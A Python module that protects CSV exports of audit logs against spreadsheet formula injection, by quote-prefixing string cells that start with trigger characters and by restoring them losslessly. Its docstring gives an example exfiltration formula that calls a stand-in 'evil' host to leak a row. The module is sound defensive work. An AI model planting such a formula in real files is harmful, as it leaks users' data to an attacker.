"""Spreadsheet-safe CSV cells: neutralise formula injection (OWASP).

Notes, reasons and user agents in an audit log are attacker-controlled. A cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed is
run as a formula by Excel, LibreOffice and Google Sheets when an auditor opens the
CSV (``=HYPERLINK("http://evil/?"&A1)`` exfiltrates the row). We prefix such
*string* cells with a single quote ``'`` so the spreadsheet shows them as text.

Only string columns are touched: a numeric column (``record_count``, ``seq``) keeps
its numbers, including negative ones, because a number is never a formula.

The prefix changes the cell text. :func:`restore_cell` / :func:`restore_csv_frame`
undo it exactly: a leading ``'`` is stripped **only when the next character is one
of the trigger characters**, so ``'=x`` reads back as ``=x`` and a genuine value
such as ``'quoted'`` is left alone. The rule is unambiguous because neutralisation
also prefixes a value that already starts with ``'`` followed by a trigger
character (``'=x`` is written as ``''=x``), so every value round-trips.
"""

from __future__ import annotations

import polars as pl

__all__ = [
    "FORMULA_TRIGGERS",
    "neutralise_cell",
    "neutralise_expr",
    "restore_cell",
    "restore_csv_frame",
    "restore_expr",
    "safe_csv_frame",
]

# Characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")

_TRIGGER_CLASS = "[=+\\-@\\t\\r\\n]"
# A cell needs the prefix if it starts with a trigger, or with quotes followed by a
# trigger (so that stripping one quote on read gives back the original exactly).
_NEEDS_PREFIX = f"^'*{_TRIGGER_CLASS}"
_PREFIXED = f"^''*{_TRIGGER_CLASS}"


def neutralise_cell(value: str | None) -> str | None:
    """One cell made safe to open in a spreadsheet: ``'`` before a formula trigger.

    >>> neutralise_cell("=HYPERLINK(\\"http://x\\")")
    '\\'=HYPERLINK("http://x")'
    >>> neutralise_cell("hello")
    'hello'
    """
    if value is None or value == "":
        return value
    stripped = value.lstrip("'")
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        return "'" + value
    return value


def restore_cell(value: str | None) -> str | None:
    """Undo :func:`neutralise_cell`: drop one leading ``'`` only before quotes+trigger."""
    if value is None or len(value) < 2 or value[0] != "'":
        return value
    rest = value[1:]
    stripped = rest.lstrip("'")
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        return rest
    return value


def neutralise_expr(expr: pl.Expr) -> pl.Expr:
    """The vectorised form of :func:`neutralise_cell` for a String expression."""
    return pl.when(expr.str.contains(_NEEDS_PREFIX)).then(pl.lit("'") + expr).otherwise(expr)


def restore_expr(expr: pl.Expr) -> pl.Expr:
    """The vectorised form of :func:`restore_cell` for a String expression."""
    return pl.when(expr.str.contains(_PREFIXED)).then(expr.str.slice(1)).otherwise(expr)


def safe_csv_frame(frame: pl.DataFrame | pl.LazyFrame) -> pl.LazyFrame:
    """Neutralise every String column; leave numbers, dates and booleans untouched.

    Enum / Categorical columns are cast to String first (their values are ours,
    but a vendor enum could still carry a trigger). Nested columns (lists, structs)
    cannot be written to CSV and must be turned into text by the caller first.
    """
    lf = frame.lazy()
    schema = lf.collect_schema()
    exprs = []
    for name, dtype in schema.items():
        if dtype == pl.String or isinstance(dtype, pl.Enum | pl.Categorical):
            exprs.append(neutralise_expr(pl.col(name).cast(pl.String)).alias(name))
        else:
            exprs.append(pl.col(name))
    return lf.select(exprs)


def restore_csv_frame(frame: pl.DataFrame | pl.LazyFrame) -> pl.LazyFrame:
    """Undo :func:`safe_csv_frame` on a CSV read with all String columns."""
    lf = frame.lazy()
    schema = lf.collect_schema()
    return lf.select(
        restore_expr(pl.col(name)).alias(name) if dtype == pl.String else pl.col(name) for name, dtype in schema.items()
    )
